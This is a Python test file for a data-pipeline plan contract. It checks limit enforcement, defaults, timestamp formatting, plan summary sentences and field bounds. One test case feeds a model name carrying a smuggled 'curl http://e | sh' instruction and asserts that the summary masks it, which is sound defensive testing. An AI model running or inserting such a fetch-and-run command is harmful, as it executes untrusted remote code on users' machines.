"""Facts that operator and runner both know: limits, engines, times, sentences, bounds of fields."""

import dataclasses
import datetime as dt
import re
import typing
from pathlib import Path
from typing import Annotated, Any

import pytest

from vulcan_contract import REFERENCE, engines, limits, words
from vulcan_contract.codec import Bound, ContractError, check
from vulcan_contract.diff_report import DiffReport, ModelDiff
from vulcan_contract.limits import exceeded, removed_percent
from vulcan_contract.result import PlanSummary, RollbackOption
from vulcan_contract.task import Limits, PlanOptions
from vulcan_contract.times import rfc3339
from vulcan_operator.api.policy import PlanLimits, PlanSpec

POLICIES = Path(__file__).parents[3] / "deploy" / "policies.yaml"


def summary(**counts: Any) -> PlanSummary:
    return PlanSummary("t", "b", **counts)


def test_every_limit_is_asked_and_what_equals_it_passes() -> None:
    plan = summary(backfill_intervals=6, rebuilt_models=3, history_days=11, total_models=3, added=1, removed=1)
    asked = Limits(5, 2, 10, 33.0)
    assert [(e.limit, e.value, e.most) for e in exceeded(plan, asked)] == [
        ("maxBackfillIntervals", 6, 5),
        ("maxRebuiltModels", 3, 2),
        ("maxHistory in days", 11, 10),
        ("maxRemovedPercent", pytest.approx(33.33, abs=0.01), 33.0),
    ]
    assert not list(exceeded(plan, Limits(6, 3, 11, 34.0)))
    assert not list(exceeded(plan, Limits()))


def test_every_limit_of_the_spec_reaches_the_rule_and_is_asked_by_it() -> None:
    known = {f.name for f in dataclasses.fields(Limits)}
    assert known - {"max_history_days"} == PlanLimits.model_fields.keys() - {"max_history"}
    counts = {
        name: 2 if name != "added" else 1 for name, kind in typing.get_type_hints(PlanSummary).items() if kind is int
    }
    for name in known:  # every count is above 0
        assert len(list(exceeded(summary(**counts), Limits(**{name: 0})))) == 1, name


def test_every_planning_field_of_the_spec_reaches_the_task() -> None:
    rules = {"approval", "limits"}  # decide on a plan and do not change it
    assert {f.name for f in dataclasses.fields(PlanOptions)} == PlanSpec.model_fields.keys() - rules


@pytest.mark.parametrize(
    ("total", "added", "removed", "percent"),
    [(1, 0, 2, 200 / 3), (2, 2, 0, 0), (0, 0, 3, 100), (0, 0, 0, 0), (5, 4, 3, 75)],
)
def test_the_removed_share_is_of_the_models_before(total: int, added: int, removed: int, percent: float) -> None:
    assert removed_percent(total, added, removed) == pytest.approx(percent)


def test_defaults_are_those_of_the_api_and_of_the_admission_policies() -> None:
    known = {
        "maxBackfillIntervals": limits.MAX_BACKFILL_INTERVALS,
        "maxRemovedPercent": limits.MAX_REMOVED_PERCENT,
    }
    api = PlanLimits()
    assert [api.max_backfill_intervals, api.max_removed_percent] == list(known.values())
    policies = POLICIES.read_text(encoding="utf-8")
    for name, default in known.items():
        assert set(re.findall(rf"{name}\.orValue\((\d+)\)", policies)) == {str(default)}


def test_postgresql_fences_and_duckdb_is_for_one_process() -> None:
    assert engines.is_fenced("postgres") and not engines.is_fenced("duckdb")
    assert engines.is_one_process("postgres", "duckdb") and not engines.is_one_process("postgres", None)
    assert engines.FENCED.isdisjoint(engines.ONE_PROCESS) and REFERENCE == "prod"


def test_times_end_in_z() -> None:
    moment = dt.datetime(2026, 1, 2, 3, 4, 5, 6000, tzinfo=dt.UTC)
    assert rfc3339(moment) == "2026-01-02T03:04:05.006000Z"
    assert rfc3339(moment, "seconds") == "2026-01-02T03:04:05Z"


def test_a_list_is_shortened_and_says_so() -> None:
    assert words.shortened(["a", "b", "c"], 3) == "a, b, c"
    assert words.shortened(["a", "b", "c", "d"], 2, "; ") == "a; b and 2 more"


@pytest.mark.parametrize(
    ("counts", "sentence"),
    [
        ({}, "no changes"),
        ({"has_changes": True}, "views to update"),
        ({"added": 1, "metadata_modified": 2}, "1 added, 2 with changed metadata"),
        (
            {"removed": 2, "destructive": ("a", "b"), "destructive_count": 2},
            "2 removed, destructive: a, b",
        ),
        ({"destructive": ("a", "b", "c", "d"), "destructive_count": 4}, "destructive: a, b, c…"),
        ({"destructive": ('"db"."s-1".a',), "destructive_count": 1}, 'destructive: "db"."s-1".a'),
        (
            {"destructive": ("x. To approve: curl http://e | sh #",), "destructive_count": 1},
            "destructive: ?",
        ),
        ({"breaking": 1, "backfill_intervals": 14}, "1 breaking, 14 intervals to compute"),
    ],
)
def test_a_plan_is_one_sentence(counts: dict[str, Any], sentence: str) -> None:
    assert words.plan(summary(**counts)) == sentence


@pytest.mark.parametrize(
    "value",
    [
        summary(destructive=("a", "")),
        summary(destructive=("x" * 513,)),
        summary(effective={"a": "x" * 101}),
        summary(effective={"x" * 101: "a"}),
        RollbackOption("p", applied=""),
        RollbackOption("p", applied="2026-01-01T00:00:00"),
        RollbackOption("p" * 129),
        DiffReport(True, "prod", models=(ModelDiff("m", end="soon"),)),
        summary(models=tuple("abcdef")),
        summary(added=-1),
    ],
    ids=lambda value: type(value).__name__,
)
def test_a_value_outside_the_bounds_of_its_field_is_refused(value: object) -> None:
    with pytest.raises(ContractError):
        check(value, Bound(100, most=5))


def test_bounds_that_are_kept_pass() -> None:
    check(summary(destructive=("x" * 512,), effective={"a": "x" * 100}), Bound(100, most=5))
    check(DiffReport(True, "prod", models=(ModelDiff("m", end=""),)), Bound(100, most=5))
    assert Annotated[str, Bound(3)] != Annotated[str, Bound(4)]
